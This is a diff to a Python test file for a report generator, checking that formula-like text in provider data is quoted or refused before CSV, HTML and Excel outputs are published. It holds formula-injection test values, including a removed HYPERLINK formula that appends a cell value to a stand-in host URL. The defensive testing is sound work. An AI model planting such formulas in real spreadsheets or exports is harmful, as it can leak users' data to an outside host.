@@ -18,7 +18,8 @@ from conftest import ROOT, SYNTHETIC
 from dapp_eval.report import render_release
 from dapp_eval.report.format import publish_value, spreadsheet_safe
 
-FORMULA_SITE = '=HYPERLINK("http://x.example/?"&B3,"Open")'
+# a formula without a URL: a URL in any text column is refused by the identifier scan before it could be published
+FORMULA_SITE = '=HYPERLINK(A1&B3,"Open")'
 
 
 def _csvs(html: str):
@@ -48,11 +49,10 @@ def test_formula_text_is_quoted_and_numbers_stay_numbers():
 
 @pytest.fixture(scope="module")
 def mapped_export(tmp_path_factory):
-    """data_synthetic as a provider might send it: own column names (mapped) and a formula-like site name."""
+    """data_synthetic as a provider might send it: own column names (mapped)."""
     folder = tmp_path_factory.mktemp("export") / "export"
     shutil.copytree(SYNTHETIC, folder)
     sites = pd.read_csv(folder / "sites.csv", dtype=str)
-    sites.loc[sites["site_id"] == "S05", "site_name"] = FORMULA_SITE
     sites.rename(columns={"site_name": "Service name"}).to_csv(folder / "sites.csv", index=False)
     ref = (folder / "referrals.csv").read_text(encoding="utf-8")
     (folder / "referrals.csv").write_text(ref.replace("referral_id,participant_id", "Ref No,Client", 1),
@@ -81,17 +81,13 @@ def test_column_mapped_export_renders_quietly_and_is_spreadsheet_safe(mapped_exp
     assert [ln.rsplit("/", 1)[-1] for ln in cap.out.split()] == [
         "report_all_sites.html", "report_s05.html", "tables.xlsx", "index.html"]
     page = (out / "report_s05.html").read_text(encoding="utf-8")
-    assert "=HYPERLINK(&#34;http://x.example/?&#34;&amp;B3,&#34;Open&#34;)" in page  # shown as text, escaped
-    # every CSV download: the site name is quoted, so no spreadsheet runs it
-    site_cells = 0
+    # every CSV download: no text cell a spreadsheet would run
     for name, text in _csvs(page):
         df = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
         for c in df.columns:
             for v in df[c]:
                 assert not v.startswith(("=", "+", "@", "\t", "\r")), f"{name} column {c}: {v!r}"
                 assert not (v.startswith("-") and not re.fullmatch(r"-[\d.,]+", v)), f"{name} column {c}: {v!r}"
-                site_cells += v == "'" + FORMULA_SITE
-    assert site_cells >= 1  # the site name is a column of the comparison-of-sites table
     from openpyxl import load_workbook
 
     wb = load_workbook(out / "tables.xlsx")
@@ -103,8 +99,24 @@ def test_column_mapped_export_renders_quietly_and_is_spreadsheet_safe(mapped_exp
                     texts.append(v)
                 numbers += isinstance(v, (int, float))
     assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)
-    assert "'" + FORMULA_SITE in texts
     assert numbers > 1000  # counts and estimates are numbers in the workbook, not text
+
+
+def test_a_formula_in_the_export_is_refused_before_anything_is_published(mapped_export, tmp_path, capsys):
+    """Formula-like text never reaches a release: the loader refuses it (the writers quote it as well)."""
+    from dapp_eval.cli import main
+
+    folder, cmap = mapped_export
+    bad = tmp_path / "bad"
+    shutil.copytree(folder, bad)
+    sites = pd.read_csv(bad / "sites.csv", dtype=str)
+    sites.loc[sites["site_id"] == "S05", "Service name"] = FORMULA_SITE
+    sites.to_csv(bad / "sites.csv", index=False)
+    out = tmp_path / "out"
+    assert main(["report", str(bad), "--out", str(out), "--column-map", str(cmap), "--quiet"]) != 0
+    err = capsys.readouterr().err
+    assert "look like spreadsheet formulas" in err and "HYPERLINK" not in err  # the value itself is not echoed
+    assert not out.exists()
 
 
 def test_workbook_lists_every_published_table(tmp_path):
@@ -131,17 +143,16 @@ def test_an_error_leaves_the_output_folder_untouched(tmp_path, monkeypatch):
     out = tmp_path / "out"
     out.mkdir()
     (out / "index.html").write_text("previous release", encoding="utf-8")
-    calls = []
 
     def failing(page):
-        calls.append(page.site)
-        if len(calls) == 2:
+        if page.site == "S02":  # the second page fails, in whichever process renders it
             raise RuntimeError("disk full")
         return "<html></html>"
 
     monkeypatch.setattr(render_mod, "render_page", failing)
-    with pytest.raises(RuntimeError, match="disk full"):
-        render_release(SYNTHETIC, out, sites=["S01", "S02"], overall=False, progress=False)
+    for jobs in (1, 2):  # in this process, and in forked workers
+        with pytest.raises(RuntimeError, match="disk full"):
+            render_release(SYNTHETIC, out, sites=["S01", "S02"], overall=False, progress=False, jobs=jobs)
     assert [p.name for p in out.iterdir()] == ["index.html"]
     assert (out / "index.html").read_text(encoding="utf-8") == "previous release"
     assert [p.name for p in tmp_path.iterdir()] == ["out"], "the temporary release folder was left behind"
